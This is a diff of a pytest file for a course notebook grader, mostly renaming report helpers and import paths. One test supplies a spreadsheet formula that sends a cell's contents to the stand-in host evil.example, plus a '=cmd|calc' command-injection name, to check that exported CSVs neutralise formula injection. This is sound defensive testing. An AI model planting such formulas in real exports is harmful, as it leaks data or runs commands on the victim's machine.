@@ -11,10 +11,9 @@ import pytest
 
 from grader.class_run.submissions import NotebookJob
 from grader.cli import main
-from grader.judge.grade_notebook import CheckResult, NotebookResult
-from grader.judge.rebuild import WrittenAnswer
 from grader.outputs.grades_by_people import GradesByPeople
-from grader.outputs.report import lesson_maxima, submissions_report, write_json
+from grader.outputs.report import class_report, lesson_maxima, write_json
+from grader.results import CheckResult, NotebookResult, WrittenAnswer
 
 CONCLUSION = "CER helps at small buffers: <b>seeds 0-9</b> & 10-19 both say so."
 
@@ -41,7 +40,7 @@ def qlearning(update_points=3.0):
 def report_file(tmp_path):
     """ada and ben handed in the capstone (ada answered its written question, ben did
     not); ben's update check failed; cy handed in nothing."""
-    report = submissions_report({"ada": [qlearning(), capstone()],
+    report = class_report({"ada": [qlearning(), capstone()],
                                  "ben": [qlearning(0.0), capstone(answered=False)],
                                  "cy": []}, lessons=lesson_maxima())
     path = tmp_path / "report.json"
@@ -158,7 +157,7 @@ def test_grading_again_keeps_every_row_of_the_file(report_file, tmp_path):
     report = json.loads(report_file.read_text())
     report["submissions"][1]["notebooks"][5]["manual"][0].update(
         answered=True, status="awaiting manual grading", score=None, answer="Ben's view")
-    write_json(report, report_file)
+    report_file.write_text(json.dumps(report))
     assert main(["export", str(report_file), "--csv", str(tmp_path / "g.csv"),
                  "--manual", str(manual)]) == 0
     text = manual.read_text()
@@ -169,7 +168,7 @@ def test_a_students_text_never_runs_as_a_formula_in_the_instructors_spreadsheet(
     hostile = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"
     result = capstone()
     result.written[0].answer = hostile
-    report = submissions_report({"=cmd|calc": [result]}, lessons=lesson_maxima())
+    report = class_report({"=cmd|calc": [result]}, lessons=lesson_maxima())
     path = tmp_path / "report.json"
     write_json(report, path)
     manual = tmp_path / "manual.csv"
@@ -256,7 +255,7 @@ def late_class(tmp_path):
             hand_in(tmp_path / "class", "ben", "01_qlearning", utc(2026, 9, 17, 1, 0)),
             hand_in(tmp_path / "class", "cy", "01_qlearning", mtime=utc(2026, 9, 15, 0, 59)),
             hand_in(tmp_path / "class", "ada", "06_capstone", utc(2026, 10, 31, 0, 5))]
-    report = submissions_report({"ada": [qlearning(), capstone()], "ben": [qlearning()],
+    report = class_report({"ada": [qlearning(), capstone()], "ben": [qlearning()],
                                  "cy": [qlearning()]}, lessons=lesson_maxima())
     policy = tmp_path / "policy.toml"
     policy.write_text(POLICY)
@@ -264,8 +263,8 @@ def late_class(tmp_path):
 
 
 def notebook_of(report, student, lesson):
-    submission = next(s for s in report["submissions"] if s["student"] == student)
-    return next(n for n in submission["notebooks"] if n["name"] == lesson)
+    """The student's lesson as the JSON report holds it."""
+    return report.student(student).notebook(lesson).to_data()
 
 
 def test_a_late_notebook_with_and_without_an_extension_gets_the_stated_penalty(late_class,
